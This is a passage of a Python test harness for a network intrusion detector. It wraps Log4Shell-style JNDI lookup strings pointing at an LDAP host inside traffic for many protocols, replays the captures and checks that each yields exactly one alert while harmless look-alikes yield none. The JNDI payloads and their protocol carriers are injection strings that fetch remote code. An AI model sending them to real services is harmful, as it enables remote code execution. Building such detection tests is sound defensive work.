tcp("a43 behind STARTTLS", "tls.sni", 25, lambda t: [("c", b"EHLO h\r\nSTARTTLS\r\n" + w.tls_hello(t))])

# --- What no parser can read any more is raw ----------------------------------------------------------------------------

# A length that is claimed to a receiver of lines must not cut what that one reads over.
tcp("cut by Redis", "raw", 4560, lambda t: b"*1\r\n$5\r\n" + t + b"\r\n")
tcp("cut by MQTT", "raw", 4560, lambda t: w.mqtt_connect(b"c") + b"\x30\x09\0\1t" + t + b"\n")
tcp("cut by Minecraft", "raw", 4560, lambda t: w.minecraft_handshake(b"h") + b"\6\5" + t + b"\n")
tcp("cut by SIP", "raw", 4560, lambda t: b"MESSAGE sip:b@h SIP/2.0\r\nl: 5\r\n\r\n" + t + b"\n")
tcp("cut by BDAT", "raw", 4560, lambda t: b"EHLO h\r\nBDAT 5\r\n" + t + b"\r\n")

tcp("nonsense behind LDAP", "raw", 389, lambda t: w.ldap_bind(b"cn=a") + b"\xff\xff" + t)
tcp("junk before an LDAP answer", "raw", 389, lambda t: [("c", w.ldap_bind(b"cn=a")), ("s", b"x " + t + b" junk" * 20)])
tcp("nonsense behind DNS", "raw", 53, lambda t: w.sized(2, w.dns_query(b"a.example")) + b"\0\1" + t)
tcp("nonsense behind MQTT", "raw", 1883, lambda t: w.mqtt_connect(b"c") + b"\0" + t)
tcp("nonsense behind SIP", "raw", 5060, lambda t: b"OPTIONS sip:h SIP/2.0\r\n\r\n" + b"\1\2" + t + b"\r\n")
tcp("nonsense behind Minecraft", "raw", 25565, lambda t: w.minecraft_handshake(b"h") + b"\xff\xff\xff\xff" + t)
tcp("nonsense behind a TLS hello", "raw", 443, lambda t: w.tls_hello(b"a.example") + b"GET " + t)
# The same of who answers.
for protocol, port, asked, answer in (
        ("HTTP", 80, header(b"A", b"1"), OK + b"\1\2\3"),
        ("HTTP chunks", 80, header(b"A", b"1"), b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\nzz\r\n"),
        ("HTTP/2", 8081, w.H2_PREFACE + w.h2_frame(4, 0, 0, b""), w.h2_frame(4, 0, 0, b"") + b"\xff" * 9),
        ("DNS", 53, w.sized(2, w.dns_query(b"a.example")), w.sized(2, w.dns_answer(b"a.example", 16, w.txt(b"x"))) + b"\0\1"),
        ("MQTT", 1883, w.mqtt_connect(b"c"), w.mqtt(0x20, b"\0\0") + b"\0"),
        ("Redis", 6379, w.resp(b"GET", b"k"), b"$1\r\nv\r\n\1\2"),
        ("SMTP", 25, b"EHLO h\r\n", b"220 h ESMTP\r\n250 h\r\n\1\2"),
        ("SIP", 5060, b"OPTIONS sip:h SIP/2.0\r\n\r\n", b"SIP/2.0 200 OK\r\nl: 0\r\n\r\n\1\2"),
        ("Minecraft", 25565, w.minecraft_handshake(b"h"), w.minecraft(b"\0\2{}") + b"\xff\xff\xff\xff"),
        ("SOCKS", 1080, b"\5\1\0", b"\5\0\xff"),
        ("RMI", 1099, b"JRMI\0\2K", b"N\0\1h\0\0\0\0" + b"\xff\xff"),
        ("GIOP", 1050, b"GIOP\1\0\0\3\0\0\0\x10" + bytes(16), b"GIOP\1\0\0\1\0\0\0\x0c" + bytes(12) + b"\xff\xff"),
):
    tcp("nonsense behind an answer of " + protocol, "raw", port, lambda t, a=asked, b=answer: [("c", a), ("s", b + t + b"\n")])
udp("nonsense in GELF", "raw", 12201, lambda t: b"\x78\x9c" + t)


def text_of(number):
    return b"${jndi:ldap://198.51.100.66:1389/p%d}" % number


def twin_of(number):
    return b"$(jndi-ldap://198.51.100.66:1389/p%d)" % number


def written(folder, name, texts, segment=w.SEGMENT):
    capture = w.Capture()
    capture.segment = segment
    for (_, writer, *_rest), text in zip(TABLE, texts):
        writer(capture, text)
    path = folder / name
    capture.write(path)
    return path


def judged(found):
    """What is wrong with the alerts of the attacks, a line each."""
    by_lookup = {}
    for alert in found:
        by_lookup.setdefault(lab.facts(alert).get("lookup"), []).append(alert)
    for number, (row, _, location, name, _) in enumerate(TABLE):
        mine = by_lookup.pop(text_of(number)[7:-1].decode(), [])
        places = [(lab.facts(alert).get("location"), lab.facts(alert).get("name")) for alert in mine]
        if len(mine) != 1:
            yield "%s: %d alerts instead of one %s" % (row, len(mine), places)
        elif places[0] != (location, places[0][1] if name is None else name):
            yield "%s: found in %s instead of %s %s" % (row, places[0], location, name or "")
    for lookup, alerts in by_lookup.items():
        yield "%d alerts that nobody expects: %s" % (len(alerts), lookup or [a["alert"]["signature_id"] for a in alerts])


def unlisted():
    """docs/CARRIERS.md has a line for each carrier, and each one that is read has a row here."""
    page = (pathlib.Path(__file__).resolve().parents[2] / "docs" / "CARRIERS.md").read_text()
    read = {row.split()[0] for row, *_ in TABLE}
    for number in range(1, 46):
        line = next((line for line in page.splitlines() if line.startswith("| a%d |" % number)), None)
        if line is None:
            yield "docs/CARRIERS.md has no line for a%d" % number
        elif ("not read" not in line) != ("a%d" % number in read):
            yield "docs/CARRIERS.md says of a%d what this table does not" % number


def main():
    program, wrong = sys.argv[1], list(unlisted())
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        attacks = [text_of(number) for number in range(len(TABLE))]
        twins = [row[4] or twin_of(number) for number, row in enumerate(TABLE)]
        for name, segment in (("whole.pcap", w.SEGMENT), ("pieces.pcap", 3)):
            found = lab.alerts(lab.replay(program, written(folder, name, attacks, segment)))
            wrong += ["%s: %s" % (name, line) for line in judged(found)]
        for alert in lab.alerts(lab.replay(program, written(folder, "twins.pcap", twins))):
            wrong.append("a twin raises %d: %s" % (alert["alert"]["signature_id"], lab.facts(alert)))
    if wrong:
        sys.exit("\n".join(wrong))
    print("%d places, each with one alert; their twins without" % len(TABLE))


if __name__ == "__main__":
    main()
